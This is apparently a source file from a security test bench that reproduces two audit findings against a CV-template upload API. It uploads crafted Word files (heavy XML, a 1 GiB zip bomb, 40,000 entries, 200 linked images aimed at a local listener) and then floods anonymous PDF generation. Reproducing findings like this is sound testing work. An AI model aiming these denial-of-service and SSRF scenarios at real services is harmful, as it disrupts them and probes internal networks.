// bench/attack.mjs's scenarios of findings 2 and 3: hostile Word files (bench/lib/docx-craft.mjs)
// uploaded as Football's CV template by admin@demo.test, then anonymous PDFs made from them, and the
// listener that a template's linked images point at. Each scenario is { finding, prepare(ctx),
// attack(ctx, signal) }, as in scenarios.mjs.
import { createServer } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { heavyXmlDocx, linkedImagesDocx, manyEntriesDocx, zipBombDocx } from '../docx-craft.mjs';
import { format } from '../stats.mjs';
import {
  anonymousPdf,
  expect,
  fileForm,
  formHeaders,
  hammer,
  hammered,
  timedCall,
  visiblePlayer,
} from './calls.mjs';
import { seconds1, tally } from './report.mjs';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** The sport's PDF template: the one it has, or a new one. */
async function createTemplate(ctx, sportName) {
  const sport = ctx.admin.tenants[sportName];
  const existing = await ctx.admin.call(`/core/api/PlayerCV/pdftemplate/${sport.id}`);
  if (existing.status === 200) return existing.body;
  return expect(
    ctx.admin,
    201,
    '/core/api/PlayerCV',
    { method: 'POST', body: JSON.stringify({ tenantId: sport.id, name: 'attack.mjs' }) },
    'creating a PDF template',
  );
}
/** Uploads `bytes` as the template's Word file: timedCall's answer. */
async function upload(ctx, template, bytes, signal) {
  const answer = await timedCall(
    `${ctx.base}/core/api/PlayerCV/${template.id}/file`,
    { method: 'POST', headers: formHeaders(ctx.admin), body: fileForm(bytes, 'template.docx', DOCX) },
    { signal, timeoutMs: ctx.requestTimeoutMs, keepText: true },
  );
  return answer;
}
const uploaded = (what, answer) =>
  `${what} ${answer.status} in ${seconds1(answer.ms)}${
    answer.status === '200' ? '' : ` (${(answer.text ?? '').replace(/\s+/g, ' ').slice(0, 160)})`
  }`;

/** The listener a template's links point at: counts every request it receives. */
async function startListener() {
  const PNG = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    'base64',
  );
  const listener = { hits: 0 };
  listener.server = createServer((_request, response) => {
    listener.hits += 1;
    response.writeHead(200, { 'content-type': 'image/png' }).end(PNG);
  });
  await new Promise((resolve) => listener.server.listen(0, '127.0.0.1', resolve));
  listener.port = listener.server.address().port;
  return listener;
}

export const TEMPLATE_SCENARIOS = {
  'template-xml': {
    finding: 2,
    async prepare(ctx) {
      ctx.target = await visiblePlayer(ctx, 'Football');
      ctx.template = await createTemplate(ctx, 'Football');
      ctx.file = heavyXmlDocx(45);
    },
    async attack(ctx, signal) {
      const put = await upload(ctx, ctx.template, ctx.file.bytes, signal);
      const result = await hammer(ctx, 2, anonymousPdf(ctx.target.pdf), signal);
      return {
        calls:
          `${uploaded(`upload (${format(ctx.file.bytes.length / 1024)} KB, ${format(ctx.file.xmlBytes / 1048576, 1)} MiB XML)`, put)}; ` +
          hammered('getpdf×2', result),
        statuses: { [`upload ${put.status}`]: 1, ...result.statuses },
      };
    },
  },
  'template-bomb': {
    finding: 2,
    async prepare(ctx) {
      ctx.template = await createTemplate(ctx, 'Football');
      ctx.file = ctx.shared.bomb ??= await zipBombDocx({ gibibytes: 1, declaredSize: 4096 });
    },
    async attack(ctx, signal) {
      const started = performance.now();
      const put = await upload(ctx, ctx.template, ctx.file.bytes, signal);
      // The window is at least --seconds, so that what the upload leaves behind is seen too.
      await sleep(started + ctx.seconds * 1000 - performance.now());
      return {
        calls: uploaded(
          `upload (${format(ctx.file.bytes.length / 1024)} KB declaring ${format(ctx.file.declaredSize / 1024)} KB, inflating to ${format(ctx.file.inflatedBytes / 1073741824, 2)} GiB)`,
          put,
        ),
        statuses: { [`upload ${put.status}`]: 1 },
      };
    },
  },
  'template-entries': {
    finding: 2,
    async prepare(ctx) {
      ctx.target = await visiblePlayer(ctx, 'Football');
      ctx.template = await createTemplate(ctx, 'Football');
      ctx.file = ctx.shared.entries ??= manyEntriesDocx(40_000);
    },
    async attack(ctx, signal) {
      const put = await upload(ctx, ctx.template, ctx.file, signal);
      const result = await hammer(ctx, 2, anonymousPdf(ctx.target.pdf), signal);
      return {
        calls: `${uploaded(`upload (40,003 entries, ${format(ctx.file.length / 1024)} KB)`, put)}; ${hammered('getpdf×2', result)}`,
        statuses: { [`upload ${put.status}`]: 1, ...result.statuses },
      };
    },
  },
  'template-ssrf': {
    finding: 3,
    async prepare(ctx) {
      ctx.target = await visiblePlayer(ctx, 'Football');
      ctx.template = await createTemplate(ctx, 'Football');
      ctx.listener = await startListener();
      ctx.file = linkedImagesDocx(200, (index) => `http://127.0.0.1:${ctx.listener.port}/ssrf/${index}.png`);
    },
    async attack(ctx, signal) {
      const hits = {};
      const put = await upload(ctx, ctx.template, ctx.file, signal);
      hits.upload = ctx.listener.hits;
      const previews = {};
      for (let index = 0; index < 2; index += 1) {
        const answer = await timedCall(
          `${ctx.base}/core/api/PlayerCV/${ctx.template.id}`,
          { headers: { authorization: `Bearer ${ctx.admin.token}` } },
          { signal, timeoutMs: ctx.requestTimeoutMs },
        );
        const key = `${answer.status}${answer.headers?.get('x-cv-source') ? ` ${answer.headers.get('x-cv-source')}` : ''}`;
        previews[key] = (previews[key] ?? 0) + 1;
      }
      hits.preview = ctx.listener.hits - hits.upload;
      const result = await hammer(ctx, 2, anonymousPdf(ctx.target.pdf), signal);
      await sleep(1000); // late fetches of the last conversion
      hits.getpdf = ctx.listener.hits - hits.upload - hits.preview;
      ctx.listener.server.close();
      return {
        calls: `${uploaded('upload (200 linked images)', put)}; previews ${tally(previews)}; ${hammered('getpdf×2', result)}`,
        statuses: { [`upload ${put.status}`]: 1, ...result.statuses },
        listenerHits: ctx.listener.hits,
        hitsBy: `upload ${hits.upload}, 2 previews ${hits.preview}, ${result.calls} getpdf ${hits.getpdf}`,
      };
    },
  },
};
